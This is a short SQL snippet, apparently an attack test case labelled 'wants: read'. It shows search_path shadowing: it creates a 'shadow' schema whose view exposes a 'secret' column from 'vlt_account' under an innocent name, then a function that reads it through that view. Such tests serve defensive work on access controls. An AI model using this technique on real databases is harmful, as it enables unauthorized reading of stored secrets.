-- Gives a function a search path in which the name means a view of the vault.
-- wants: read
-- attack:
CREATE SCHEMA shadow;
CREATE VIEW shadow.item AS SELECT secret AS title FROM vlt_account;
CREATE FUNCTION peek() RETURNS text LANGUAGE sql SET search_path = shadow, public
  AS 'SELECT title FROM item LIMIT 1';
SELECT peek();
